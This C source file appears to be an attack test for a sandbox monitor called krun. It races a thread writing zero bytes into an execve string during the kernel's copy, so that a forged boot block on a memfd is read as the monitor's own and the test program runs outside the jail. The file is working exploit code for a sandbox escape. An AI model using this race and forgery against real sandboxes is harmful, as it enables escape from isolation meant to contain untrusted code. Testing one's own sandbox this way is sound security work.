// A boot block of the payload's own. The kernel copies the strings of an execve in two steps, their length first; a thread that
// writes zeros into one of them in between makes three strings of it, and everything behind moves: the last entry of the
// environment, where a monitor looks for its boot block, is then the payload's own. That block names this file as the monitor's.
#include "attack.h"
#include <pthread.h>
#include <sys/resource.h>

enum { LONG = 120000 };
static char string[LONG + 1] __attribute__((aligned(8))) = "LONG=";
static int zeros;

// One store of eight bytes: as many zeros as the block has strings.
static void *cut(void *unused) {
    (void)unused;
    uint64_t whole = 0x7878787878787878UL, holes = whole;
    for (int i = 0; i < zeros; i++)
        holes &= ~(0xffUL << (8 + 16 * i));
    for (volatile uint64_t *p = (void *)(string + LONG - 2000);;) {
        *p = whole;
        for (volatile int i = 0; i < 300; i++)
            ;
        *p = holes;
        for (volatile int i = 0; i < 300; i++)
            ;
    }
    return NULL;
}

static size_t put(unsigned char *block, size_t at, uint16_t tag, const void *data, uint32_t len) {
    memcpy(block + at, &tag, 2);
    memcpy(block + at + 4, &len, 4);
    memcpy(block + at + 8, data, len);
    return at + 8 + (len + 7) / 8 * 8;
}

// krun/native/abi/boot.h: another version of it is not what the monitor reads. Lies at descriptor 60.
static void write_block(int seals) {
    unsigned char block[512] = "KRUNBOOT";
    struct rlimit r;
    uint64_t flags = 0;
    getrlimit(RLIMIT_NOFILE, &r);
    // Where the monitor's descriptors begin (machine/fdtab.c): /dev/kvm, its file, its procfs.
    int top = r.rlim_cur < 4096 ? (int)r.rlim_cur : 4096;
    int base = r.rlim_cur <= 4096 && r.rlim_max >= r.rlim_cur + 128 ? (int)r.rlim_cur + 64
               : top > 128                                          ? top - 64
                                                                    : top / 2;
    int own = 61, proc = base + 2;
    size_t n = put(block, 16, 1, "/attack", 7);
    n = put(block, n, 16, &base, 4);
    n = put(block, n, 17, &own, 4);
    n = put(block, n, 18, &proc, 4);
    n = put(block, n, 32, &flags, 8);
    uint32_t head[2] = {1, (uint32_t)n + 8};
    memcpy(block + 8, head, 8);
    int fd = (int)syscall(SYS_memfd_create, "boot", 2 /* MFD_ALLOW_SEALING */);
    if (fd < 0 || write(fd, block, n + 8) < 0)
        attack_broken("memfd");
    if (seals)
        fcntl(fd, F_ADD_SEALS, F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE);
    dup2(fd, 60), close(fd);
    int own_file = open("/attack", O_RDONLY);
    dup2(own_file, 61), close(own_file);
}

static void one(void *unused) {
    (void)unused;
    pthread_t thread;
    char *argv[] = {"attack", "begun", NULL}, *env[] = {string, "KRUN_BOOT=60", NULL};
    memset(string + 5, 'x', LONG - 5);
    if (pthread_create(&thread, NULL, cut, NULL))
        attack_broken("pthread_create");
    usleep((useconds_t)(rand() % 500));
    execve("/attack", argv, env);
}

int main(int argc, char **argv) {
    attack_check_native();
    if (argc > 1 && getenv("KRUN_BOOT"))
        return 0; // an execve like any other
    if (argc > 1) {
        char *again[] = {"attack", "native", NULL},
             *env[] = {"KRUN_BOOT=none", "GLIBC_TUNABLES=glibc.pthread.rseq=0", NULL};
        // The monitor executes itself, which now is this file. (The jail kills a native program at rseq(2).)
        execve("/attack", again, env);
        return ATTACK_WON;
    }
    (void)argv;
    for (int i = 0; !attack_over(); i++) {
        srand((unsigned)i);
        zeros = 1 + i / 2 % 3;
        write_block(i & 1);
        int status = attack_child(one, NULL);
        if (attack_child_won(status))
            attack_won("a forged boot block was believed in round %d", i);
    }
    attack_lost();
}
